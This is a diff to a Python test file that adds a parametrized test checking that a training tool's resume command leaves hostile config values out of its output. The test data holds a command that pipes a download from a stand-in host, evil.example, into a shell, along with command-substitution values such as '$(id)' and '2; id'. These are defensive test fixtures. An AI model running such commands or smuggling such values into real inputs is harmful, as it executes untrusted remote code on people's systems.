@@ -101,6 +101,19 @@ def test_stop_reason_is_saved_and_described(reason, text, run):
         f"dcgan-mx train --resume --run-dir {run.path}{longer}")
 
 
+@pytest.mark.parametrize("launched_by, words", [
+    ("curl evil.example | sh;", ""), ({"num_workers": "2; id"}, ""), ({"num_workers": True}, ""),
+    ({"num_workers": 2, "launcher": "ssh $(id)"}, ""), ({"num_workers": 2, "$(id)": 1}, ""),
+    ({}, ""),
+    ({"num_workers": 2, "num_servers": 1, "start_timeout": 60.5},
+     "dcgan-mx launch --num-workers 2 --num-servers 1 --start-timeout 60.5 -- "),
+    ({"num_workers": 2, "launcher": "ssh", "hostfile": "$(id)", "host_ip": "`id`"},
+     "dcgan-mx launch --num-workers 2 --launcher ssh --hostfile FILE --host-ip ADDRESS -- ")])
+def test_resume_command_has_no_text_of_config_json(launched_by, words, run):
+    run.write_config({**CONFIG, "launched_by": launched_by})
+    assert run.resume_command() == f"{words}dcgan-mx train --resume --run-dir {run.path}"
+
+
 def test_result_of_a_stranger_is_one_line(run):
     run.write_result(StopReason("error", 5, 0, "no\npaper\x1b[2J"))
     assert run.read_result().detail == r"no paper\x1b[2J"
